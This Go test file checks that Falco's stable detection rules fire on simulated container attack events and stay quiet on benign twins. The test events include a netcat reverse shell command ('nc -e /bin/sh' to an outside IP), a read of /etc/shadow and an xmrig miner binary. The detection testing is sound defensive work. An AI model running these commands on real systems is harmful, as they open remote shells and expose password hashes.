package syscall

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/palisade-dev/palisade/internal/core/falco"
)

// The seed scenarios' rules, from Falco's stable rules file.
const (
	ruleTerminalShell = "Terminal shell in container"
	ruleReadSensitive = "Read sensitive file untrusted"
	ruleDropExecute   = "Drop and execute new binary in container"
	ruleNetcatRCE     = "Netcat Remote Code Execution in Container"
	rulePacketSocket  = "Packet socket created in container"
)

// extraOutput is what Falco's default configuration appends to every
// syscall rule's output (append_output in falco.yaml, since the container
// fields left the rules): written here as an override of the seed rules.
const extraOutput = "container_id=%container.id container_name=%container.name " +
	"container_image_repository=%container.image.repository container_image_tag=%container.image.tag " +
	"k8s_pod_name=%k8s.pod.name k8s_ns_name=%k8s.ns.name"

// loadStable loads falco_rules.yaml as published, then the extra output
// for the seed rules.
func loadStable(t testing.TB) *falco.Rules {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(rulesDir(t), "falco_rules.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	var extra strings.Builder
	for _, r := range []string{ruleTerminalShell, ruleReadSensitive, ruleDropExecute, ruleNetcatRCE, rulePacketSocket} {
		extra.WriteString("- rule: " + r + "\n  output: " + extraOutput + "\n  override:\n    output: append\n")
	}
	rs, diags := falco.Load(falco.Options{Sources: []falco.Source{newSource(t)}, Plugins: map[string]string{"container": "0.4.0"}},
		falco.File{Name: "falco_rules.yaml", Data: data}, falco.File{Name: "append_output.yaml", Data: []byte(extra.String())})
	if diags.HasErrors() {
		t.Fatalf("falco_rules.yaml does not load:\n%v", diags.Err())
	}
	for _, d := range diags {
		if d.Code == falco.WarnNotEvaluated {
			t.Errorf("unexpected diagnostic: %v", d)
		}
	}
	return rs
}

// fired returns the rules e matches, with their outputs.
func fired(m *falco.Matcher, e *Event) map[string]string {
	out := map[string]string{}
	m.Match(SourceName, e, func(r *falco.Rule) bool {
		out[r.Name] = m.Output(r)
		return true
	})
	return out
}

func TestStableRulesAllEvaluated(t *testing.T) {
	rs := loadStable(t)
	enabled := 0
	for _, r := range rs.All() {
		if !r.Evaluated {
			t.Errorf("rule %q is not evaluated", r.Name)
		}
		if r.Enabled {
			enabled++
		}
	}
	if got := len(rs.Evaluated(SourceName)); got != enabled || enabled < 20 {
		t.Errorf("%d rules evaluated for source syscall, %d enabled; want them equal and over 20", got, enabled)
	}
}

func TestSeedScenarios(t *testing.T) {
	m := loadStable(t).NewMatcher()
	const where = " container_id=3ad7b26ded6d container_name=web container_image_repository=docker.io/library/nginx " +
		"container_image_tag=1.27 k8s_pod_name=web-7d9f k8s_ns_name=shop"

	dropped := shellInContainer()
	dropped.Thread.Comm, dropped.Thread.Exe, dropped.Thread.ExePath = "xmrig", "./xmrig", "/tmp/xmrig"
	dropped.Thread.TTY, dropped.Thread.ExeUpperLayer = 0, true
	dropped.Args[3] = Arg{Name: "flags", Num: 2, Text: "EXE_UPPER_LAYER", Numeric: true}

	nc := shellInContainer()
	nc.Thread.Comm, nc.Thread.Exe, nc.Thread.ExePath = "nc", "nc", "/usr/bin/nc"
	nc.Thread.Args, nc.Thread.TTY = []string{"-e", "/bin/sh", "203.0.113.9", "4444"}, 0

	packet := &Event{Num: 4714, Time: t0 + 3e6, Type: "socket", Res: 4, Thread: catInContainer(), Hostname: hostname,
		Args: []Arg{{Name: "fd", Num: 4, Text: "4", Numeric: true}, {Name: "domain", Num: 17, Text: "AF_PACKET", Numeric: true},
			{Name: "type", Num: 3, Text: "3", Numeric: true}, {Name: "proto", Num: 768, Text: "768", Numeric: true}},
		FD: &FD{Num: 4, TypeChar: 'o', Name: "", Family: "AF_PACKET"}}
	packet.Thread.Comm, packet.Thread.Exe, packet.Thread.ExePath, packet.Thread.Args = "tcpdump", "tcpdump", "/usr/bin/tcpdump", []string{"-i", "eth0"}

	tests := []struct {
		name string
		e    *Event
		want map[string]string
	}{
		{"shell with a terminal in a container", shellInContainer(), map[string]string{
			ruleTerminalShell: "A shell was spawned in a container with an attached terminal | evt_type=execve user=root user_uid=0 " +
				"user_loginuid=-1 process=sh proc_exepath=/bin/sh parent=runc:[1:CHILD] command=sh terminal=34816 exe_flags=0" + where,
		}},
		{"cat reads /etc/shadow in a container", openat(catInContainer(), "/etc/shadow", OpenRdonly, "O_RDONLY"), map[string]string{
			ruleReadSensitive: "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=containerd-shim " +
				"ggparent=<NA> gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 process=cat " +
				"proc_exepath=/bin/cat parent=sh command=cat /etc/shadow terminal=0" + where,
		}},
		{"a binary from the upper layer runs", dropped, map[string]string{
			ruleDropExecute: "Executing binary not part of base image | proc_exe=./xmrig proc_sname=xmrig gparent=containerd-shim " +
				"proc_exe_ino_ctime=1699913600000000000 proc_exe_ino_mtime=1699913600000000000 " +
				"proc_exe_ino_ctime_duration_proc_start=86399000000000 proc_cwd=/usr/share/nginx/html/ " +
				"container_start_ts=1699999940000000000 evt_type=execve user=root user_uid=0 user_loginuid=-1 process=xmrig " +
				"proc_exepath=/tmp/xmrig parent=runc:[1:CHILD] command=xmrig terminal=0 exe_flags=EXE_UPPER_LAYER" + where,
		}},
		{"nc -e /bin/sh", nc, map[string]string{
			ruleNetcatRCE: "Netcat runs inside container that allows remote code execution | evt_type=execve user=root user_uid=0 " +
				"user_loginuid=-1 process=nc proc_exepath=/usr/bin/nc parent=runc:[1:CHILD] " +
				"command=nc -e /bin/sh 203.0.113.9 4444 terminal=0 exe_flags=0" + where,
		}},
		{"packet socket", packet, map[string]string{
			rulePacketSocket: "Packet socket was created in a container | socket_info=fd=4 domain=17(AF_PACKET) type=3 proto=768  " +
				"connection= lport=<NA> rport=<NA> fd_type=<NA> fd_proto=<NA> evt_type=socket user=root user_uid=0 " +
				"user_loginuid=-1 process=tcpdump proc_exepath=/usr/bin/tcpdump parent=sh command=tcpdump -i eth0 terminal=0" + where,
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, fired(m, tt.e)); diff != "" {
				t.Errorf("rules fired (-want +got):\n%s", diff)
			}
		})
	}
}

// TestSeedScenariosBenignTwins: the same events with the one detail that
// makes them suspicious changed do not fire the seed rules.
func TestSeedScenariosBenignTwins(t *testing.T) {
	m := loadStable(t).NewMatcher()

	noTTY := shellInContainer()
	noTTY.Thread.TTY = 0

	onHost := shellInContainer()
	onHost.Thread.Container = nil
	onHost.Thread.Parent.Container = nil

	notEntrypoint := shellInContainer()
	notEntrypoint.Thread.Parent.Comm = "nginx"

	lower := shellInContainer()
	lower.Thread.Comm, lower.Thread.ExePath, lower.Thread.TTY = "nginx", "/usr/sbin/nginx", 0
	lower.Thread.ExeLowerLayer = true

	ncListen := shellInContainer()
	ncListen.Thread.Comm, ncListen.Thread.Args, ncListen.Thread.TTY = "nc", []string{"-l", "8080"}, 0

	inet := &Event{Type: "socket", Res: 4, Thread: catInContainer(),
		Args: []Arg{{Name: "fd", Num: 4, Numeric: true}, {Name: "domain", Num: 2, Text: "AF_INET", Numeric: true}}}

	tests := []struct {
		name string
		e    *Event
		want []string // the rules that fire
	}{
		{"shell without a terminal", noTTY, nil},
		{"shell with a terminal on the host", onHost, nil},
		// Not an entry point, but a web server spawning a shell: another
		// stable rule's business.
		{"shell under nginx", notEntrypoint, []string{"Run shell untrusted"}},
		{"hostname read", openat(catInContainer(), "/etc/hostname", OpenRdonly, "O_RDONLY"), nil},
		{"shadow opened for writing", openat(catInContainer(), "/etc/shadow", OpenWronly, "O_WRONLY"), nil},
		{"shadow open failed", withoutFD(openat(catInContainer(), "/etc/shadow", OpenRdonly, "O_RDONLY")), nil},
		{"lower-layer binary", lower, nil},
		{"nc listening", ncListen, nil},
		{"inet socket", inet, nil},
	}
	for _, tt := range tests {
		var got []string
		for r := range fired(m, tt.e) {
			got = append(got, r)
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("%s: rules fired (-want +got):\n%s", tt.name, diff)
		}
	}
}

// withoutFD makes e a call that failed with ENOENT.
func withoutFD(e *Event) *Event {
	e.Res, e.FD = -2, nil
	e.Args[0] = Arg{Name: "fd", Num: -2, Text: "ENOENT", Numeric: true}
	return e
}
